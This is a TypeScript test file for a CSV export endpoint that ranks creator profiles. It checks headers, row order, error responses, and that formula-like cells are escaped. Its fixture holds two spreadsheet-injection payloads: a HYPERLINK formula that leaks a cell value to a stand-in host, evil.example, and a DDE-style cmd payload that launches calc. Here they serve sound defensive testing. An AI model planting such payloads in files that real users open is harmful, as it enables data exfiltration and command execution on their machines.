import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { resultColumns } from '../../src/export/results-csv.js';
import { startTestApi } from '../helpers/api-server.js';
import type { TestApi } from '../helpers/api-server.js';
import { rankedResult as ranked } from '../helpers/ranked-result.js';

/** Creator-controlled text an attacker could plant in a profile, to run when the export is opened. */
const hostile = ranked(2, {
  display_name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  rationale: '@SUM(1+1)*cmd|\' /C calc\'!A0, with "quotes",\r\nand a line break',
  matched_topics: ['+1', '-1'],
  country: null,
  score_breakdown: null,
});

describe('shortlist export: GET /pipeline/jobs/:id/results as text/csv', () => {
  let api: TestApi;
  let owner: { key: string; id: string };
  let jobId: string;
  before(async () => {
    api = await startTestApi();
    const created = await api.newKey();
    owner = { key: created.key, id: created.row.id };
    const job = await api.insertJob(owner.id, { status: 'running' });
    await api.ctx.repos.artifacts.put(job.id, 'final', [ranked(1), hostile, ranked(3)]);
    await api.ctx.repos.jobs.finish(job.id, 'completed');
    jobId = job.id;
  });
  after(() => api.cleanup());

  const rowsOf = (text: string) => parse(text) as string[][];

  test('Accept: text/csv and ?format=csv answer the same CSV: stable header, one row per result in rank order', async () => {
    const byAccept = await api.call(`/pipeline/jobs/${jobId}/results`, { key: owner.key, headers: { Accept: 'text/csv' } });
    const byQuery = await api.call(`/pipeline/jobs/${jobId}/results?format=csv`, { key: owner.key, headers: { Accept: 'application/json' } });
    for (const res of [byAccept, byQuery]) {
      assert.equal(res.status, 200, res.text);
      assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
      assert.match(res.headers.get('content-disposition') ?? '', new RegExp(`attachment; filename="?${jobId}.csv"?`));
    }
    assert.equal(byAccept.text, byQuery.text);
    const rows = rowsOf(byAccept.text);
    assert.deepEqual(rows[0], resultColumns.map((c) => c.name));
    assert.deepEqual(rows[0]!.slice(0, 6), ['rank', 'platform', 'handle', 'display_name', 'profile_url', 'fit_score'], 'the documented leading columns');
    assert.deepEqual(rows.slice(1).map((r) => r[0]), ['1', '2', '3']);
    const first = Object.fromEntries(rows[0]!.map((name, i) => [name, rows[1]![i]]));
    assert.equal(first.handle, 'creator1');
    assert.equal(first.fit_score, '89');
    assert.equal(first.engagement_rate, '0.031');
    assert.equal(first.matched_topics, 'protein; gym');
    assert.equal(first.niches, 'fitness 0.81');
    assert.equal(first.rationale, 'Posts about "protein", "gym"; 3.1% engagement, near median');
    assert.equal(first.score_niche, '50');
    assert.equal(first.stale, 'false');
  });

  test('hostile cells are escaped: no cell starts a formula, and the text is intact behind the apostrophe', async () => {
    const res = await api.call(`/pipeline/jobs/${jobId}/results?format=csv`, { key: owner.key });
    const rows = rowsOf(res.text);
    const row = Object.fromEntries(rows[0]!.map((name, i) => [name, rows[2]![i]!]));
    assert.equal(row.display_name, `'${hostile.display_name}`);
    assert.equal(row.rationale, `'${hostile.rationale}`);
    assert.equal(row.matched_topics, "'+1; -1");
    assert.equal(row.country, '');
    assert.equal(row.score_niche, '');
    for (const r of rows) for (const cell of r) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell starts a formula: ${cell}`);
  });

  test('JSON stays the default; a bad format is a 422 naming it; an unfinished job is a problem+json 409', async () => {
    const json = await api.call<{ count: number }>(`/pipeline/jobs/${jobId}/results`, { key: owner.key, headers: { Accept: '*/*' } });
    assert.equal(json.status, 200);
    assert.equal(json.body.count, 3);
    const bad = await api.call<{ errors: { field: string }[] }>(`/pipeline/jobs/${jobId}/results?format=xml`, { key: owner.key });
    assert.equal(bad.status, 422);
    assert.equal(bad.body.errors[0]!.field, 'query.format');
    const running = await api.insertJob(owner.id, { status: 'running' });
    const early = await api.call<{ status: number; job_status: string }>(`/pipeline/jobs/${running.id}/results?format=csv`, { key: owner.key });
    assert.equal(early.status, 409);
    assert.match(early.headers.get('content-type') ?? '', /problem\+json/);
    assert.equal(early.body.status, 409);
    assert.equal(early.body.job_status, 'running');
  });
});
